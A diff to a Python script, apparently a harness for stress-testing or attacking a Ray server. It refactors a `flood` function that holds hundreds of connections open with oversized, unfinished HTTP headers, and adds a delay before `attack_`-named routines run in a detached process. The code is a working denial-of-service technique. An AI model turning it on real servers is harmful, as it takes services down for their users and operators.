@@ -308,6 +308,7 @@ def flood(host, connections=400, size=960 << 10):
     """Opens connections that each send the most of a header that is allowed, and never the rest."""
     opened, errors, lock = [], {}, threading.Lock()
     start = b"GET /api/version HTTP/1.1\r\nHost: ray\r\nX-Long: "
+    unfinished = start + b"a" * (size - len(start))
 
     def one():
         try:
@@ -315,7 +316,7 @@ def flood(host, connections=400, size=960 << 10):
             connection.settimeout(10)
             with lock:
                 opened.append(connection)
-            connection.sendall(start + b"a" * (size - len(start)))
+            connection.sendall(unfinished)
         except OSError as error:
             with lock:
                 errors[str(error.strerror or error)] = errors.get(str(error.strerror or error), 0) + 1
@@ -419,6 +420,9 @@ def main(name):
         log = open(os.devnull, "w")
         subprocess.Popen([sys.executable, *sys.argv], env=environment, start_new_session=True, stdout=log, stderr=log)
         return
+    if os.environ.get("DETACHED") == "1":
+        # Until Ray has noted the end of the job.
+        time.sleep(3)
     try:
         keep(name, globals()["attack_" + name]())
     except Exception as error:
